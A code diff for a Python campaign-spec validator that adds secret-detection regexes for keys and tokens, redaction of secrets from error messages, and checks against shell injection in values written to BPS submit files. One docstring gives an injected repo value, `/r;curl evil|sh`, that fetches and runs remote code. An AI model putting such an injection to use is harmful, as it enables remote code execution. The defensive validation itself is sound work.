@@ -7,31 +7,75 @@ holds it, with a hint where one helps.
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from typing import Any
 
 from pydantic import BaseModel, ValidationError
 
 from .errors import Diagnostic, SpecError, did_you_mean
 from .loader import FieldPath, LoadedCampaign
-from .defaults import RUCIO_SCOPE_MAX
+from .defaults import RUCIO_SCOPE_MAX, SHARE_SUM_TOLERANCE, SHARE_WARNING
 from .model import Campaign
 from .naming import ingestd_topic
 from .plan import Plan
 from .sky import assign_tracts, footprint_of, known_skymaps, ring_bands, resolve_skymap
+from .text import bps_problem, shown
 
 SECRET_KEY = re.compile(r"(pass(word|wd)?|token|secret|api[_-]?key|credentials?)$", re.IGNORECASE)
 # Keys that name a secret (by reference) rather than hold one.
 SECRET_REFERENCE_KEYS = frozenset({"butler_secret"})
-URI_WITH_PASSWORD = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://[^/@\s:]*:[^/@\s]+@")
 ENV_REFERENCE = re.compile(r"^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$")
-SHARE_TOLERANCE = 0.001
+
+# Secrets recognised in any string of the spec (values and keys), whatever field holds them.
+# Each pattern is linear: no nested quantifiers, and every unbounded repetition starts at a
+# literal (a bounded one otherwise), so a megabyte of hostile text costs milliseconds.
+SECRET_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
+    ("a PEM private key", re.compile(
+        r"(?<!-)-{2,}\s{0,5}BEGIN[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?\s{0,5}-{2,10}[\s\S]*?(?:-{2,10}\s{0,5}END"
+        r"[A-Z0-9 ]{0,40}PRIVATE KEY(?: BLOCK)?\s{0,5}-{2,10}|$)", re.IGNORECASE)),
+    ("an AWS access key and its secret", re.compile(
+        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}[\s:,;|=/\"'-]{1,5}[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])")),
+    ("an AWS access key id", re.compile(r"\b(?:AKIA|ASIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|APKA)[0-9A-Z]{16}\b")),
+    ("an AWS secret access key", re.compile(
+        r"aws_?secret_?(?:access_?)?key\W{1,5}[A-Za-z0-9/+=]{40}(?![A-Za-z0-9/+=])", re.IGNORECASE)),
+    ("a GitHub token", re.compile(r"\b(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,})")),
+    ("a GitLab token", re.compile(r"\bglpat-[A-Za-z0-9_-]{20,}")),
+    ("a Slack token", re.compile(r"\bxox[abeoprs]-[A-Za-z0-9-]{10,}")),
+    ("a Google API key", re.compile(r"\bAIza[0-9A-Za-z_-]{35}")),
+    ("a bearer token", re.compile(r"\bBearer\s+(?=[A-Za-z._~+/-]*[0-9])[A-Za-z0-9._~+/-]{16,}=*", re.IGNORECASE)),
+    ("a JSON Web Token", re.compile(r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*")),
+    ("a password or token in a URL query", re.compile(
+        r"[?&;](?:(?:[a-z0-9]{1,20}[_-]|pg)?(?:pass(?:word|wd)?|secret|token)|pwd|api_?key|apikey|access_?key|sig"
+        r"|signature|x-amz-signature|x-amz-credential|x-amz-security-token|credentials?)"
+        r"=(?!\$\{?[A-Za-z_][A-Za-z0-9_]*\}?(?:[&#;]|$))[^&#;\s]+", re.IGNORECASE)),
+)
+URL_USERINFO = re.compile(r"\b[A-Za-z][A-Za-z0-9+.-]{0,30}://([^/?#@\s]{0,256})@")
+TOKEN_LIKE = re.compile(r"^(?=.*[0-9])(?=.*[A-Za-z])[A-Za-z0-9_\-.~+/=]{32,}$")
+REDACTED = "<redacted>"
+# One of these (lower case) is in every text a pattern of the same index matches: a quick `in`
+# skips the regular expressions for the megabyte of text that holds none.
+_SECRET_HINTS: tuple[tuple[str, ...], ...] = (
+    ("private key",), ("akia", "asia"), ("akia", "asia", "agpa", "aida", "aroa", "aipa", "anpa", "anva", "apka"),
+    ("secret",), ("gho_", "ghp_", "ghu_", "ghs_", "ghr_", "github_pat_"), ("glpat-",), ("xox",), ("aiza",),
+    ("bearer",), ("eyj",), ("=",),
+)
+
+
+_PLAIN_KEY = re.compile(r"^[A-Za-z0-9_-]{1,64}$")
 
 
 def dotted(path: FieldPath) -> str:
+    """`sites.usdf.cores`, `stages[2].name`; a key that is not a plain name is shown quoted and
+    cut (`sites['x\\ny']`), one that looks like a secret as <redacted>: a path never carries a
+    line break, a megabyte of key or a token into a log."""
     out = ""
     for part in path:
-        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else str(part))
+        if isinstance(part, int):
+            out += f"[{part}]"
+        elif _PLAIN_KEY.match(part) and not secret_kind(part):
+            out += f".{part}" if out else part
+        else:
+            out += f"[{REDACTED if secret_kind(part) else shown(part, 40)}]"
     return out
 
 
@@ -66,23 +110,145 @@ def _walk(node: Any, path: FieldPath = ()) -> Iterator[tuple[FieldPath, Any]]:
             yield from _walk(v, path + (i,))
 
 
+def secret_kind(text: str) -> str | None:
+    """What kind of secret `text` holds (e.g. 'a GitHub token'), or None."""
+    low = text.lower()
+    for (kind, pattern), hints in zip(SECRET_PATTERNS, _SECRET_HINTS, strict=True):
+        if any(h in low for h in hints) and pattern.search(text):
+            return kind
+    if "@" not in text:
+        return None
+    for m in URL_USERINFO.finditer(text):
+        user, _, password = m.group(1).partition(":")
+        if password and not ENV_REFERENCE.match(password):
+            return "a URI with a password"
+        if not password and TOKEN_LIKE.match(user):
+            return "a token as the user name of a URL"
+    return None
+
+
+def _secret_spans(text: str) -> list[str]:
+    """The parts of `text` that are secrets (to scrub them from any message, as a last resort)."""
+    found = [m.group() for _, pattern in SECRET_PATTERNS for m in pattern.finditer(text)]
+    found += [m.group(1) for m in URL_USERINFO.finditer(text)]
+    return [f for f in found if len(f) >= 6]
+
+
 def check_secrets(data: dict[str, Any], out: Collector) -> set[FieldPath]:
-    """Reject literal secrets; return the paths reported, so no 'unknown key' repeats them."""
+    """Reject literal secrets in any value or key; return the paths reported, so that no other
+    error repeats (or shows) them. No message shows a secret: only what kind it is."""
     reported: set[FieldPath] = set()
     for path, value in _walk(data):
-        if isinstance(value, str) and URI_WITH_PASSWORD.match(value):
+        key = path[-1] if path and isinstance(path[-1], str) else None
+        if key is not None and secret_kind(key):
+            out.error(path, f"a key holds {secret_kind(key)}; specs hold no secrets",
+                      "remove it; refer to secrets by name (a Kubernetes Secret or an environment variable)",
+                      key=True)
+            reported.add(path)
+            continue
+        kind = secret_kind(value) if isinstance(value, str) else None
+        if kind == "a URI with a password":
             out.error(path, "a URI with a password; specs hold no secrets",
                       "drop the password: PostgreSQL credentials come from ~/.lsst/db-auth.yaml or "
                       "PGPASSWORD at the site, mounted from a Kubernetes Secret for ctrl_ingestd")
             reported.add(path)
-        key = path[-1] if path and isinstance(path[-1], str) else None
+        elif kind is not None:
+            out.error(path, f"the value holds {kind}; specs hold no secrets",
+                      "remove it and revoke it (it is in the file's history now); refer to secrets by name: "
+                      "a Kubernetes Secret (ingestd.butler_secret) or an environment variable")
+            reported.add(path)
         if key and key not in SECRET_REFERENCE_KEYS and SECRET_KEY.search(key):
             if value is not None and not (isinstance(value, str) and ENV_REFERENCE.match(value)) \
-                    and not isinstance(value, (dict, list)):
-                out.error(path, f"'{key}' holds a literal secret; specs hold no secrets",
+                    and not isinstance(value, (dict, list)) and path not in reported:
+                out.error(path, f"{shown(key)} holds a literal secret; specs hold no secrets",
                           "store it in a Kubernetes Secret (name it with ingestd.butler_secret) "
                           "or an environment variable, and refer to it by name", key=True)
                 reported.add(path)
+    return reported
+
+
+def _scrub(diags: list[Diagnostic], data: dict[str, Any], reported: set[FieldPath]) -> list[Diagnostic]:
+    """The last line of defence: no diagnostic carries a secret found in the spec, even if some
+    message (of pydantic, say) quotes a value."""
+    if not reported:
+        return diags
+    secrets: set[str] = set()
+    for path, value in _walk(data):
+        texts = [value] if isinstance(value, str) else []
+        if path and isinstance(path[-1], str):
+            texts.append(path[-1])
+        for text in texts:
+            for span in _secret_spans(text):
+                secrets.update({span, repr(span)[1:-1]})
+                secrets.update(line for line in span.splitlines() if len(line) >= 16)
+    if not secrets:
+        return diags
+    ordered = sorted(secrets, key=len, reverse=True)
+
+    def clean(text: str | None) -> str | None:
+        if text is None:
+            return None
+        for secret in ordered:
+            if secret in text:
+                text = text.replace(secret, REDACTED)
+        return text
+
+    return [Diagnostic(d.severity, clean(d.path) or "", clean(d.message) or "", d.position, clean(d.hint))
+            for d in diags]
+
+
+# -- values that reach BPS ----------------------------------------------------------------------------
+
+# Spec fields whose values are written into BPS submit files: whether `${NAME}` references
+# (expanded by BPS from the environment at submit time) are meant there, and how BPS pastes
+# them into its jobs' shell command lines ("word": unquoted, "quoted": inside "...", None: not).
+BPS_FIELDS: tuple[tuple[FieldPath, bool, str | None], ...] = (
+    (("campaign", "pipeline"), True, "word"),
+    (("campaign", "bps_includes", "*"), True, None),
+    (("stages", "*", "bps_includes", "*"), True, None),
+    (("sites", "*", "bps", "site_config"), True, None),
+    (("sites", "*", "butler", "repo"), False, "word"),
+    (("stages", "*", "extra_query"), False, "quoted"),
+    (("stages", "*", "subset"), False, "word"),
+    (("campaign", "input_collections", "*"), False, "word"),
+    (("campaign", "output_collection"), False, "word"),
+    (("campaign", "stack"), False, "word"),
+    (("campaign", "operator"), False, "word"),
+    (("metadata", "name"), False, "word"),
+    (("metadata", "ticket"), False, "word"),
+    (("sites", "*", "panda_site"), False, "word"),
+    (("sites", "*", "cloud"), False, "word"),
+    (("sites", "*", "bps", "merge_queue"), False, "word"),
+)
+
+
+def _bps_field(path: FieldPath) -> tuple[bool, str | None] | None:
+    """(`${NAME}` allowed, shell context) if `path` reaches BPS, else None."""
+    for pattern, env, shell in BPS_FIELDS:
+        if len(pattern) == len(path) and all(p == "*" or p == q for p, q in zip(pattern, path)):
+            return env, shell
+    return None
+
+
+def check_bps_values(data: dict[str, Any], out: Collector, skip: set[FieldPath]) -> set[FieldPath]:
+    """Refuse values that ctrl_bps would expand again (`{var}`, `$VAR`, placeholders; there is
+    no escape for them, see text.bps_problem), so that `/sps/{payloadName}/repo` or
+    `band = '{tract}'` cannot reach BPS and the Butler changed, and values its jobs' shells would
+    read as syntax (a repo `/r;curl evil|sh` is pasted unquoted into pipetask command lines)."""
+    reported: set[FieldPath] = set()
+    for path, value in _walk(data):
+        if path in skip or not isinstance(value, str):
+            continue
+        field = _bps_field(path)
+        if field is None:
+            continue
+        env, shell = field
+        problem = bps_problem(value, env=env, shell=shell)
+        if problem:
+            out.error(path, f"this value goes into BPS submit files, and {problem}",
+                      "write the value out literally" + ("; `${NAME}` environment references are allowed "
+                                                         "in this path" if env else ""))
+            reported.add(path)
     return reported
 
 
@@ -128,7 +294,7 @@ def _allowed_keys(path: FieldPath) -> list[str]:
     return []
 
 
-def _literal_hint(err: dict[str, Any]) -> str | None:
+def _literal_hint(err: Mapping[str, Any]) -> str | None:
     expected = (err.get("ctx") or {}).get("expected")
     return f"allowed: {expected}" if expected else None
 
@@ -141,18 +307,20 @@ def structural(loaded: LoadedCampaign, out: Collector, skip: set[FieldPath]) -> 
             loc: FieldPath = tuple(err["loc"])
             if loc and loc[-1] == "[key]":
                 loc = loc[:-1]
-                out.error(loc, f"invalid name '{loc[-1]}': {_pattern_message(err)}",
+                if loc in skip:
+                    continue
+                out.error(loc, f"invalid name {shown(loc[-1], 40)}: {_pattern_message(err)}",
                           "names are lowercase letters, digits and '-', starting with a letter, "
                           "at most 40 characters", key=True)
                 continue
-            if loc in skip:
+            if any(loc[:len(p)] == p for p in skip):
                 continue
             etype = err["type"]
             if etype == "extra_forbidden":
                 key = str(loc[-1])
-                out.error(loc, f"unknown key '{key}'", did_you_mean(key, _allowed_keys(loc[:-1])), key=True)
+                out.error(loc, f"unknown key {shown(key, 40)}", did_you_mean(key, _allowed_keys(loc[:-1])), key=True)
             elif etype == "missing":
-                out.error(loc[:-1], f"required field '{loc[-1]}' is missing", key=True)
+                out.error(loc[:-1], f"required field {shown(loc[-1])} is missing", key=True)
                 out.items[-1] = Diagnostic("error", dotted(loc), out.items[-1].message,
                                            out.items[-1].position, None)
             elif etype == "literal_error":
@@ -160,22 +328,26 @@ def structural(loaded: LoadedCampaign, out: Collector, skip: set[FieldPath]) -> 
                 hint = None
                 expected = (err.get("ctx") or {}).get("expected", "")
                 allowed = re.findall(r"'([^']*)'", expected)
-                if isinstance(value, str) and allowed:
+                if isinstance(value, str) and allowed and len(value) <= 100:
                     hint = did_you_mean(value, allowed)
-                out.error(loc, f"{value!r} is not allowed; expected {expected}", hint)
+                out.error(loc, f"{shown(value)} is not allowed; expected {expected}", hint)
             elif etype == "string_pattern_mismatch":
-                out.error(loc, f"{err.get('input')!r} {_pattern_message(err)}")
+                out.error(loc, f"{shown(err.get('input'))} {_pattern_message(err)}")
             else:
                 out.error(loc, _clean(err["msg"]), _literal_hint(err) if etype.startswith("enum") else None)
         return None
 
 
-def _pattern_message(err: dict[str, Any]) -> str:
+def _pattern_message(err: Mapping[str, Any]) -> str:
     pattern = (err.get("ctx") or {}).get("pattern")
     return f"does not match the pattern {pattern}" if pattern else _clean(err["msg"])
 
 
 def _clean(msg: str) -> str:
+    """pydantic's message, lower-cased at the start, on one line and at most 300 characters."""
+    msg = " ".join(msg.split())
+    if len(msg) > 300:
+        msg = msg[:300] + "..."
     return msg[0].lower() + msg[1:] if msg else msg
 
 
@@ -183,18 +355,19 @@ def _clean(msg: str) -> str:
 
 def semantic(spec: Campaign, out: Collector) -> None:
     sites = sorted(spec.sites)
-    site_hint = lambda name: did_you_mean(name, sites)  # noqa: E731
+    def site_hint(name: str) -> str | None:
+        return did_you_mean(name, sites)
 
     def site_ref(path: FieldPath, name: str) -> bool:
         if name in spec.sites:
             return True
-        out.error(path, f"unknown site '{name}'", site_hint(name))
+        out.error(path, f"unknown site {shown(name)}", site_hint(name))
         return False
 
     site_ref(("campaign", "central_site"), spec.campaign.central_site)
     for sid, site in spec.sites.items():
         if site.rucio.scope is None and len(spec.metadata.name) > RUCIO_SCOPE_MAX:
-            out.error(("sites", sid, "rucio"), f"no rucio.scope, and the campaign name '{spec.metadata.name}' "
+            out.error(("sites", sid, "rucio"), f"no rucio.scope, and the campaign name {shown(spec.metadata.name)} "
                       f"is longer than a Rucio scope may be ({RUCIO_SCOPE_MAX} characters)",
                       "set sites.<site>.rucio.scope")
 
@@ -202,7 +375,7 @@ def semantic(spec: Campaign, out: Collector) -> None:
     stage_index: dict[str, int] = {}
     for i, stage in enumerate(spec.stages):
         if stage.name in stage_index:
-            out.error(("stages", i, "name"), f"duplicate stage name '{stage.name}'",
+            out.error(("stages", i, "name"), f"duplicate stage name {shown(stage.name)}",
                       f"first declared as stages[{stage_index[stage.name]}]")
         else:
             stage_index[stage.name] = i
@@ -213,28 +386,28 @@ def semantic(spec: Campaign, out: Collector) -> None:
     for i, ds in enumerate(spec.datasets):
         base = ("datasets", i)
         if ds.type in seen_types:
-            out.error(base + ("type",), f"dataset type '{ds.type}' is declared twice",
+            out.error(base + ("type",), f"dataset type {shown(ds.type)} is declared twice",
                       f"first declared as datasets[{seen_types[ds.type]}]")
         seen_types.setdefault(ds.type, i)
         if len(set(ds.dimensions)) != len(ds.dimensions):
             out.error(base + ("dimensions",), "a dimension is listed twice")
         producer = stage_index.get(ds.produced_by)
         if producer is None:
-            out.error(base + ("produced_by",), f"unknown stage '{ds.produced_by}'",
+            out.error(base + ("produced_by",), f"unknown stage {shown(ds.produced_by)}",
                       did_you_mean(ds.produced_by, stage_names))
         for j, consumer in enumerate(ds.consumed_by):
             cpath = base + ("consumed_by", j)
             ci = stage_index.get(consumer)
             if ci is None:
-                out.error(cpath, f"unknown stage '{consumer}'", did_you_mean(consumer, stage_names))
+                out.error(cpath, f"unknown stage {shown(consumer)}", did_you_mean(consumer, stage_names))
             elif producer is not None and ci <= producer:
-                out.error(cpath, f"stage '{consumer}' does not run after the producer '{ds.produced_by}'",
+                out.error(cpath, f"stage {shown(consumer)} does not run after the producer {shown(ds.produced_by)}",
                           "a dataset is consumed only by stages listed after its producer")
 
     # skymap and sky
     skymap = resolve_skymap(spec)
     if skymap is None:
-        out.error(("campaign", "skymap"), f"unknown skymap '{spec.campaign.skymap}'",
+        out.error(("campaign", "skymap"), f"unknown skymap {shown(spec.campaign.skymap)}",
                   did_you_mean(spec.campaign.skymap, known_skymaps(spec)) or
                   "declare a ring skymap under `skymaps:`")
     fp = footprint_of(spec)
@@ -254,12 +427,12 @@ def semantic(spec: Campaign, out: Collector) -> None:
     if len(out.errors) > n_before or skymap is None:
         return
     ownership = assign_tracts(spec, skymap)
-    for site in sites:
-        if not any(s == site for s in ownership.owner.values()):
-            out.error(("sites", site), f"site '{site}' owns no tract of the footprint",
+    for site_id in sites:
+        if not any(s == site_id for s in ownership.owner.values()):
+            out.error(("sites", site_id), f"site {shown(site_id)} owns no tract of the footprint",
                       "give it a ring or a tract list, or remove the site", key=True)
     total_share = sum(s.share for s in spec.sites.values())
-    if abs(total_share - 1.0) > SHARE_TOLERANCE:
+    if abs(total_share - 1.0) > SHARE_SUM_TOLERANCE:
         out.error(("sites",), f"site shares sum to {total_share:.4f}, not 1",
                   "shares are fractions of the whole campaign; make them add up to 1 (within 0.001)", key=True)
     for i, cc in enumerate(spec.sky.cross_check):
@@ -267,7 +440,7 @@ def semantic(spec: Campaign, out: Collector) -> None:
         if not site_ref(path + ("also_at",), cc.also_at):
             continue
         if not skymap.is_valid_tract(cc.tract):
-            out.error(path + ("tract",), f"tract {cc.tract} is not in skymap '{skymap.name}'",
+            out.error(path + ("tract",), f"tract {cc.tract} is not in skymap {shown(skymap.name)}",
                       f"valid ids: 0..{skymap.tract_count() - 1}")
             continue
         owner = ownership.owner.get(cc.tract)
@@ -275,7 +448,7 @@ def semantic(spec: Campaign, out: Collector) -> None:
             out.error(path + ("tract",), f"tract {cc.tract} is not one of the campaign's tracts",
                       "a cross-check tract must be owned by a site")
         elif owner == cc.also_at:
-            out.error(path + ("also_at",), f"tract {cc.tract} is already owned by '{owner}'",
+            out.error(path + ("also_at",), f"tract {cc.tract} is already owned by {shown(owner)}",
                       "also_at names a second site, other than the owner")
 
 
@@ -287,7 +460,7 @@ def _check_rings(spec: Campaign, out: Collector) -> None:
         return
     for i, ring in enumerate(rings):
         if ring.site not in spec.sites:
-            out.error(("sky", "assignment", "rings", i, "site"), f"unknown site '{ring.site}'",
+            out.error(("sky", "assignment", "rings", i, "site"), f"unknown site {shown(ring.site)}",
                       did_you_mean(ring.site, spec.sites))
     bands = ring_bands(spec)
     prev_max: float | None = None
@@ -321,17 +494,17 @@ def _check_tract_lists(spec: Campaign, out: Collector, skymap: Any) -> None:
     for site in lists:
         base = ("sky", "assignment", "tracts", site)
         if site not in spec.sites:
-            out.error(base, f"unknown site '{site}'", did_you_mean(site, spec.sites), key=True)
+            out.error(base, f"unknown site {shown(site)}", did_you_mean(site, spec.sites), key=True)
         for j, tract in enumerate(lists[site]):
             path = base + (j,)
             if skymap is not None and not skymap.is_valid_tract(tract):
-                out.error(path, f"tract {tract} is not in skymap '{skymap.name}'",
+                out.error(path, f"tract {tract} is not in skymap {shown(skymap.name)}",
                           f"valid ids: 0..{skymap.tract_count() - 1}")
                 continue
             if tract in first_owner:
                 other, k = first_owner[tract]
                 where = f"sky.assignment.tracts.{other}[{k}]"
-                out.error(path, f"tract {tract} is assigned to two sites ('{other}' and '{site}')",
+                out.error(path, f"tract {tract} is assigned to two sites ({shown(other)} and {shown(site)})",
                           f"already listed at {where}")
                 continue
             first_owner[tract] = (site, j)
@@ -345,19 +518,20 @@ def _check_tract_lists(spec: Campaign, out: Collector, skymap: Any) -> None:
 def validate_loaded(loaded: LoadedCampaign) -> tuple[Campaign, list[Diagnostic]]:
     """Validate a loaded campaign; raise SpecError with every error, else return the model."""
     out = Collector(loaded)
-    skip = check_secrets(loaded.data, out)
+    secrets = check_secrets(loaded.data, out)
+    skip = secrets | check_bps_values(loaded.data, out, secrets)
     spec = structural(loaded, out, skip)
     if spec is not None:
         semantic(spec, out)
+    items = _scrub(sorted(out.items, key=Diagnostic.sort_key), loaded.data, secrets)
     if out.errors or spec is None:
-        raise SpecError(sorted(out.items, key=Diagnostic.sort_key))
-    return spec, sorted(out.items, key=Diagnostic.sort_key)
+        raise SpecError(items)
+    return spec, items
 
 
 
 # -- warnings that need the plan ------------------------------------------------------------------
 
-SHARE_WARNING = 0.05
 
 
 def plan_errors(plan: Plan, loaded: LoadedCampaign) -> list[Diagnostic]:
@@ -383,24 +557,25 @@ def plan_warnings(plan: Plan, loaded: LoadedCampaign) -> list[Diagnostic]:
     for site in plan.sites:
         if abs(site.fraction - site.share) > SHARE_WARNING:
             out.warning(("sites", site.id, "share"),
-                        f"site '{site.id}' owns {site.fraction:.3f} of the footprint's tracts, "
+                        f"site {shown(site.id)} owns {site.fraction:.3f} of the footprint's tracts, "
                         f"but its share is {site.share:g}",
                         "move a ring boundary (`drpc plan --balance` proposes some) or change the share")
     for est in plan.estimates:
-        if plan.deadline_days is not None and est.days > plan.deadline_days:
+        if plan.deadline_days is not None and est.finish_day > plan.deadline_days:
             out.warning(("sites", est.site, "cores"),
-                        f"site '{est.site}' needs {est.days:.0f} days at its {plan.site(est.site).cores} "
-                        f"cores ({est.core_hours:,.0f} core-hours), over deadline_days {plan.deadline_days:g}",
+                        f"site {shown(est.site)} finishes on day {est.finish_day:.0f} "
+                        f"({est.core_hours:,.0f} core-hours at its {plan.site(est.site).cores} "
+                        f"cores), after deadline_days {plan.deadline_days:g}",
                         "add cores, move tracts to another site, or extend the deadline")
         site = plan.site(est.site)
         if est.storage_tb > site.storage_tb:
             out.warning(("sites", est.site, "storage_tb"),
-                        f"site '{est.site}' needs about {est.storage_tb:,.0f} TB, over its storage_tb "
+                        f"site {shown(est.site)} needs about {est.storage_tb:,.0f} TB, over its storage_tb "
                         f"{site.storage_tb:g}", "add storage or move tracts to another site")
     for i, ds in enumerate(plan.datasets):
         moves = any(t.dataset_type == ds.type for t in plan.transfers)
         if moves and ds.storage_class is None:
             out.warning(("datasets", i, "type"),
-                        f"storage class of '{ds.type}' is unknown, so destinations cannot pre-register it",
+                        f"storage class of {shown(ds.type)} is unknown, so destinations cannot pre-register it",
                         "set datasets[].storage_class")
     return out.items
